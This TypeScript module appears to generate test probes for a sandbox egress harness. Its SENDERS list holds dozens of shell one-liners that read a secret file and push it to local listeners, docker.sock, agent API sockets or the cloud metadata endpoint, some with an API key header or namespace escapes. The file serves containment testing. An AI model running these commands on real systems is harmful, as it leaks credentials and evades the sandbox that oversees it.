import type { Random } from '../random.ts';
import { secretPlace } from './places.ts';

type Command = (random: Random, mark: string) => string;

const SENDERS: readonly ((loot: string, mark: string) => string)[] = [
  (loot, mark) => `exec 3<>/dev/tcp/127.0.0.1/\${tcp} && printf '${mark} %s' "${loot}" >&3`,
  (loot, mark) => `echo "${mark} ${loot}" > /dev/udp/127.0.0.1/\${dns}`,
  (loot, mark) => `curl -s -m1 -d "${loot}" http://127.0.0.1:\${tcp}/${mark}`,
  (loot, mark) => `curl -s -m1 --noproxy '*' -d "${loot}" http://localhost:\${tcp}/${mark}`,
  (loot, mark) => `curl -s -m1 -g "http://[::1]:\${tcp}/${mark}?${loot}"`,
  (loot, mark) => `curl -s -m1 --interface lo -H "x: ${loot}" http://0.0.0.0:\${tcp}/${mark}`,
  (loot, mark) => `curl -s -m1 --unix-socket \${outside}/docker.sock -d "${loot}" http://x/${mark}`,
  (loot, mark) => `curl -s -m1 --unix-socket /run/agent/api.sock -d "${loot}" http://api.local/${mark}`,
  (loot, mark) => `curl -s -m1 --abstract-unix-socket \${run} -d "${loot}" http://x/${mark}`,
  (loot, mark) =>
    `curl -s -m2 --unix-socket /run/agent/api.sock -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -d '{"model":"claude-opus-5-5","max_tokens":9,"messages":[{"role":"user","content":"${mark}"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}' http://api.local/v1/messages; : "${loot}"`,
  (loot, mark) =>
    `curl -s -m2 --unix-socket /run/agent/api.sock -H "x-api-key: $ANTHROPIC_API_KEY" -H 'anthropic-version: 2023-06-01' -d "{\\"model\\":\\"claude-opus-5-5\\",\\"max_tokens\\":9,\\"messages\\":[{\\"role\\":\\"user\\",\\"content\\":\\"${mark} ${loot}\\"}]}" http://api.local/v1/messages`,
  (loot, mark) => `wget -q -T1 -t1 -O- "http://127.0.0.1:\${tcp}/${mark}?${loot}"`,
  (loot, mark) => `nc -w1 127.0.0.1 \${tcp} <<< "${mark} ${loot}"`,
  (loot, mark) => `socat -T1 - TCP:127.0.0.1:\${tcp} <<< "${mark} ${loot}"`,
  (loot, mark) => `socat -T1 - UNIX-CONNECT:\${outside}/docker.sock <<< "${mark} ${loot}"`,
  (loot, mark) => `socat -T1 - VSOCK-CONNECT:2:\${tcp} <<< "${mark} ${loot}"`,
  (loot, mark) =>
    `python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1",\${tcp}),1); s.send(sys.argv[1].encode())' "${mark} ${loot}"`,
  (loot, mark) =>
    `python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect("\${outside}/docker.sock"); s.send(sys.argv[1].encode())' "${mark} ${loot}"`,
  (loot, mark) =>
    `python3 -c 'import socket,sys; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(sys.argv[1].encode(),("127.0.0.1",\${dns}))' "${mark} ${loot}"`,
  (_, mark) =>
    `python3 -c 'import socket; socket.socket(socket.AF_PACKET,socket.SOCK_RAW); socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,0)' ; : ${mark}`,
  (loot, mark) =>
    `node -e 'require("http").get("http://127.0.0.1:\${tcp}/${mark}?"+encodeURIComponent(process.argv[1])).on("error",console.log)' "${loot}"`,
  (loot, mark) =>
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:\${tcp}")->send("${mark} $ARGV[0]")' "${loot}"`,
  (loot, mark) => `git ls-remote "http://127.0.0.1:\${tcp}/${mark}/${loot}"`,
  (loot, mark) => `git -c http.proxy=http://127.0.0.1:\${tcp} clone -q https://example.com/${mark} "${loot}"`,
  (loot, mark) => `git fetch "ext::sh -c 'echo ${mark} > /dev/tcp/127.0.0.1/\${tcp}'" ; : "${loot}"`,
  (loot, mark) => `getent hosts "${mark}.${loot}.example.com"; host -W1 ${mark}.example.com 127.0.0.1`,
  (loot, mark) => `dig +time=1 +tries=1 -p \${dns} @127.0.0.1 "${mark}.${loot}.example.com"`,
  (loot, mark) => `ssh -o ConnectTimeout=1 -o BatchMode=yes -p \${tcp} 127.0.0.1 "${mark} ${loot}"`,
  (loot, mark) => `curl -s -m1 "http://169.254.169.254/latest/meta-data/${mark}?${loot}"`,
  (loot, mark) => `curl -s -m1 -x http://127.0.0.1:\${tcp} "http://example.com/${mark}?${loot}"`,
  (loot, mark) => `env -u HTTP_PROXY -u http_proxy curl -s -m1 -d "${loot}" http://127.0.0.1:\${tcp}/${mark}`,
  (loot, mark) =>
    `ip link set lo up; ip route add default dev lo; curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
  (loot, mark) => `unshare -Urn curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
  (loot, mark) => `nsenter -t 1 -n curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
  (loot, mark) =>
    `npm --fetch-retries=0 --fetch-timeout=900 view --registry http://127.0.0.1:\${tcp}/${mark} "${loot}"`,
  (loot, mark) =>
    `mail -s ${mark} root@localhost <<< "${loot}"; logger -n 127.0.0.1 -P \${dns} "${mark} ${loot}"; wall "${loot}"`,
];

/** Sends something away. What it carries is read first; that it arrives at all is a finding. */
export const send: Command = (random, mark) => {
  const loot = random.chance(60) ? `$(head -c 200 ${secretPlace(random)} 2>&1)` : '$(id -un)';
  return `timeout 4 bash -c '${random.pick(SENDERS)(loot, mark).replaceAll("'", `'\\''`)}' 2>&1 | head -c 2000`;
};
